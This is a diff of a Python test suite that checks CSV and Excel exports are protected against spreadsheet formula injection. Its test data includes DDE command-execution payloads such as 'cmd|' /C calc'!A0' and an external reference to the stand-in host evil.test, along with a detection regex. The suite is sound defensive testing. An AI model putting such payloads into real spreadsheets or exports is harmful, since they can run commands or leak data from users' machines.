@@ -3,9 +3,11 @@
 import csv
 import datetime
 import io
+import re
 import zipfile
 
 import pytest
+from hypothesis import given, settings, strategies
 from lxml import etree
 from openpyxl import load_workbook
 
@@ -20,16 +22,25 @@ DANGEROUS = [
     "+62 254 200123",
     "+6281234567890",
     "-2+3+cmd|' /C calc'!A0",
-    "- Renstra\n- Renja",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
+    "- Renstra dan Renja",
     " =1+1",
     "＝1+1",
     "＋1",
     "－1+cmd|' /C calc'!A0",
     "＠SUM(1)",
 ]
+# In a program that splits at another separator than ours, a cell begins inside the text.
+DANGEROUS_INSIDE = {
+    "x;={1,2}+cmd|' /C calc'!A0;y": "x;'={1,2}+cmd|' /C calc'!A0;y",
+    "x;=A1&\"+cmd|' /C calc'!A0\";y": "x;'=A1&\"'+cmd|' /C calc'!A0\";y",
+    "x; ='\\\\evil.test\\s\\[b.xls]L'!A1": "x; '='\\\\evil.test\\s\\[b.xls]L'!A1",
+    "x\t@SUM(1)": "x\t'@SUM(1)",
+    "x;-A1&": "x;'-A1&",  # the next cell may bring what is called
+    "\t=1+1": "'\t'=1+1",
+    "\r=1+1": "'\r'=1+1",
+    "\n=1+1": "'\n'=1+1",
+    "Rincian:\n- Renstra\n- Renja": "Rincian:\n'- Renstra\n'- Renja",
+}
 HARMLESS = [
     "",
     "-",
@@ -40,14 +51,16 @@ HARMLESS = [
     "0254-200123",
     "(0254) 200123",
     "Rp5.000,-",
+    "Rp5.000,- per lembar (hitam putih); Rp10.000,- (warna)",
+    'Diisi "-" jika tidak ada; "-5" jika rugi',
     "Dinas Kesehatan – Bidang P2P",
     "kontak: a@b.test",
     "1+1=2",
     "17/05/2021",
-    "Rincian:\n- Renstra\n- Renja",
 ]
 REAL_LIFE = [
     *DANGEROUS,
+    *DANGEROUS_INSIDE,
     *HARMLESS,
     'kata "kutip", koma; titik koma',
     "baris satu\r\nbaris dua",
@@ -78,10 +91,40 @@ def test_numbers_dashes_and_ordinary_text_stay_as_they_are(text):
 def test_a_call_is_harmless_in_a_program_that_splits_cells_elsewhere(separator):
     cell = f"Laporan{separator}=HYPERLINK(A1)"
     assert harmless(cell) == f"Laporan{separator}'=HYPERLINK(A1)"
-    ((written,),) = read_csv("".join(csv_text([cell], [])))
-    for other in (";", ",", "\t"):
-        rows = csv.reader(io.StringIO(written, newline=""), delimiter=other)
-        assert not any(value.startswith("=") for row in rows for value in row)
+
+
+@pytest.mark.parametrize("text", DANGEROUS_INSIDE)
+def test_what_begins_like_a_formula_after_a_separator_gets_an_apostrophe_too(text):
+    assert harmless(text) == DANGEROUS_INSIDE[text]
+
+
+LIVE = re.compile(r"\s*(?:[=+@＝＋－＠]|-+[^-\d\s,\"]|-+\s+[^\s,\"])")
+
+
+def assert_nothing_is_live(cell):
+    """Read a row that holds ``cell`` as programs do that know of another separator, or of no quotes."""
+    text = "".join(csv_text(["No.", "Judul", "Unit"], [[1, cell, "(Sekretariat)"]]))
+    for options in (
+        {"delimiter": ","},
+        {"delimiter": ";"},
+        {"delimiter": "\t"},
+        {"delimiter": ";", "quoting": csv.QUOTE_NONE},
+        {"delimiter": "\t", "quoting": csv.QUOTE_NONE},
+    ):
+        for row in csv.reader(io.StringIO(text, newline=""), **options):
+            live = [value for value in row if LIVE.match(value)]
+            assert not live, (options, live)
+
+
+@pytest.mark.parametrize("cell", REAL_LIFE)
+def test_no_text_of_real_life_is_calculated_whatever_a_program_splits_at(cell):
+    assert_nothing_is_live(cell)
+
+
+@given(strategies.text(alphabet=strategies.sampled_from("a5=+-@＝;,\t\r\n\"' |(!")))
+@settings(max_examples=200, deadline=None, derandomize=True, database=None)
+def test_no_text_at_all_is_calculated_whatever_a_program_splits_at(cell):
+    assert_nothing_is_live(cell)
 
 
 def test_csv_keeps_every_text_of_real_life():
@@ -103,7 +146,7 @@ def test_a_workbook_holds_text_as_it_was_and_no_formula():
     assert [row[0].value or "" for row in rows[1:]] == expected
     assert {row[0].data_type for row in rows if row[0].value} == {"s"}
     quoted = {value for value, row in zip(REAL_LIFE, rows[1:], strict=True) if row[0].quotePrefix}
-    assert quoted == set(DANGEROUS)
+    assert quoted == {*DANGEROUS, "\t=1+1", "\r=1+1", "\n=1+1"}
     sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
     assert not etree.fromstring(sheet).findall(".//{*}f")
 
